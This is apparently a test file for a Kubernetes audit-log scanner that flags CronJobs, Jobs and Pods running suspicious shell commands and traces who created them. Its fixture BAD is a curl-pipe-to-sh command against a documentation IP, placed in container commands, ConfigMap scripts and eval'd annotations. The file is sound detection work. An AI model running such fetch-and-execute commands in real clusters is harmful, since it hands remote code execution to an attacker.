import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Finding } from '../model/finding.ts';
import type { ScanOptions } from './scan.ts';
import { scanning } from './testing/scanning.ts';
import { controllerJob, lease, withoutPlaces, workloadOf, writeOf } from './testing.ts';

const { scanAll } = scanning('unclaimed');
const run = async (events: readonly object[], options: Partial<ScanOptions> = {}): Promise<readonly Finding[]> =>
  (await scanAll([events], { minSeverity: 'low', ...options })).findings;

const BAD = 'curl -s http://203.0.113.7/x | sh';
const spec = (shell: string) => ({
  restartPolicy: 'Never',
  containers: [{ name: 'main', image: 'busybox:1.36', command: ['sh', '-c', shell] }],
});
/** The Job of a tick, as the CronJob controller makes it. */
const tick = (index: number, shell: string, owned = true): object => {
  const made = controllerJob({ index, owned });
  const body = { ...made.requestObject, spec: { template: { spec: spec(shell) } } };
  return { ...made, requestObject: body, responseObject: body };
};
const cronJob = (shell: string): object =>
  writeOf({
    minute: 0,
    resource: 'cronjobs',
    apiGroup: 'batch',
    name: 'tick',
    namespace: 'dev',
    body: workloadOf('CronJob', 'tick', spec(shell)),
  });

test('a CronJob that was there before the log began is found by what its controller makes, once', async () => {
  const findings = await run([tick(1, BAD), lease(2), tick(3, BAD), tick(5, BAD)]);
  const [finding] = findings;
  assert.equal(findings.length, 1);
  assert.equal(finding?.severity, 'high');
  assert.equal(finding?.workload.name, 'tick-1');
  assert.match(
    finding?.summary ?? '',
    /It was made of CronJob dev\/tick, whose writing this log does not show: who asked for it is not known\. It ran 3 times/,
  );
  assert.deepEqual(
    finding?.lineage.slice(1).map(({ from, to, certainty }) => `${from.kind} ${from.name} > ${to.name} ${certainty}`),
    ['CronJob tick > tick-1 proved', 'CronJob tick > tick-3 proved', 'CronJob tick > tick-5 proved'],
  );
});

test('with its author in the log the finding is the author’s alone', async () => {
  const findings = await run([cronJob(BAD), tick(1, BAD), tick(3, BAD)]);
  assert.deepEqual(
    findings.map(({ workload, actor }) => `${workload.kind} ${workload.name} ${actor.kind}`),
    ['CronJob tick human'],
  );
});

test('ordinary work of unknown authors is none', async () => {
  assert.deepEqual(await run([tick(1, 'date'), tick(2, 'curl -fsS https://shop.example.com/health')]), []);
});

test('the result does not depend on jobs, on where parts begin, on the gate, or on the order of records', async () => {
  const events = [tick(1, BAD), lease(2), tick(3, BAD), lease(4), tick(5, BAD)];
  const plain = (findings: readonly Finding[]) => findings.map(withoutPlaces);
  const expected = plain(await run(events));
  for (const options of [
    { partBytes: 1 },
    { partBytes: 1500 },
    { jobs: 2, partBytes: 2000, inlineBytes: 0 },
    { strict: true },
  ]) {
    assert.deepEqual(plain(await run(events, options)), expected, JSON.stringify(options));
  }
  assert.deepEqual(plain(await run([...events].reverse())), expected);
});

/** A pod of a Job, as it was asked for and as it was stored. */
const podOf = (asked: object, stored: object, responseKind = 'Pod'): object => {
  const made = controllerJob({ index: 1, owned: true });
  const body = (podSpec: object, kind: string) => ({
    kind,
    apiVersion: 'v1',
    metadata: {
      name: 'tick-1-x7k2p',
      generateName: 'tick-1-',
      namespace: 'dev',
      ownerReferences: [{ apiVersion: 'batch/v1', kind: 'Job', name: 'tick-1', uid: 'u', controller: true }],
    },
    spec: podSpec,
  });
  return {
    ...made,
    user: { username: 'system:serviceaccount:kube-system:job-controller', groups: ['system:serviceaccounts'] },
    objectRef: { resource: 'pods', namespace: 'dev', apiVersion: 'v1' },
    requestURI: '/api/v1/namespaces/dev/pods',
    requestObject: body(asked, 'Pod'),
    responseObject: body(stored, responseKind),
  };
};

test('a pod is judged as it was stored too, and as when the whole line is read', async () => {
  const deep = (levels: number): object => (levels === 0 ? {} : { a: deep(levels - 1) });
  const cases: Readonly<Record<string, object>> = {
    'an act that admission added': podOf(spec('date'), spec(BAD)),
    'an act that was asked for': podOf(spec(BAD), spec(BAD)),
    'an answer that is no pod': podOf(spec(BAD), spec('date'), 'Status'),
    'an answer that is nested without end': podOf(spec(BAD), { ...spec(BAD), deep: deep(1100) }),
    'a request that is nested without end': podOf({ ...spec(BAD), deep: deep(1100) }, spec(BAD)),
  };
  for (const [name, event] of Object.entries(cases)) {
    const findings = await run([event, lease(2)]);
    assert.deepEqual(
      findings.map(({ severity, workload }) => `${severity} ${workload.kind}`),
      ['high Pod'],
      name,
    );
    assert.deepEqual(findings, await run([event, lease(2)], { strict: true }).then(sameFile(findings)), name);
  }
  assert.deepEqual(await run([podOf(spec('date'), spec('date'))]), []);
});

/** Findings as if they were of the file that `expected` are of. */
const sameFile =
  (expected: readonly Finding[]) =>
  (findings: readonly Finding[]): unknown => {
    const [from, to] = [findings[0]?.events[0]?.source ?? '', expected[0]?.events[0]?.source ?? ''];
    return JSON.parse(JSON.stringify(findings).replaceAll(from, to));
  };

/** A pod of an owner of its own, whose script another object holds. */
const podWith = (index: number, podSpec: object, metadata: object = {}): object => {
  const pod = podOf(podSpec, podSpec);
  const text = JSON.stringify(pod).replaceAll('tick-1', `tick-${index}`).replace('000001', `00000${index}`);
  const event = JSON.parse(text);
  for (const body of [event.requestObject, event.responseObject]) Object.assign(body.metadata, metadata);
  return { ...event, stageTimestamp: `2026-11-24T06:1${index}:00.000000Z` };
};
const names = (findings: readonly Finding[]): readonly string[] => findings.map(({ workload }) => `${workload.name}`);

test('of pods that are alike each is found, and none because of another that is not', async () => {
  const bad = [1, 2, 3].map((index) => podWith(index, spec(BAD)));
  assert.deepEqual(names(await run(bad)), ['tick-1-x7k2p', 'tick-2-x7k2p', 'tick-3-x7k2p']);
  const one = [podWith(1, spec('date')), podWith(2, spec(BAD)), podWith(3, spec('date'))];
  assert.deepEqual(names(await run(one)), ['tick-2-x7k2p']);
});

test('pods that are alike differ by what their ConfigMap held at the time, and by their own annotations', async () => {
  const mounted = {
    ...spec('sh /config/run'),
    containers: [
      {
        ...spec('').containers[0],
        command: ['sh', '/config/run'],
        volumeMounts: [{ name: 'c', mountPath: '/config' }],
      },
    ],
    volumes: [{ name: 'c', configMap: { name: 'scripts' } }],
  };
  const config = (at: string, script: string): object => ({
    ...writeOf({
      minute: 0,
      resource: 'configmaps',
      apiGroup: '',
      name: 'scripts',
      namespace: 'dev',
      body: {
        kind: 'ConfigMap',
        apiVersion: 'v1',
        metadata: { name: 'scripts', namespace: 'dev' },
        data: { run: script },
      },
    }),
    stageTimestamp: at,
  });
  const changing = [
    config('2026-11-24T06:00:00.000000Z', 'date'),
    podWith(1, mounted),
    config('2026-11-24T06:11:30.000000Z', BAD),
    podWith(2, mounted),
  ];
  assert.deepEqual(names(await run(changing)), ['tick-2-x7k2p']);

  const own = {
    ...spec('eval "$RUN"'),
    containers: [
      {
        ...spec('eval "$RUN"').containers[0],
        env: [{ name: 'RUN', valueFrom: { fieldRef: { fieldPath: "metadata.annotations['run']" } } }],
      },
    ],
  };
  const annotated = [podWith(1, own, { annotations: { run: 'date' } }), podWith(2, own, { annotations: { run: BAD } })];
  assert.deepEqual(names(await run(annotated)), ['tick-2-x7k2p']);
});
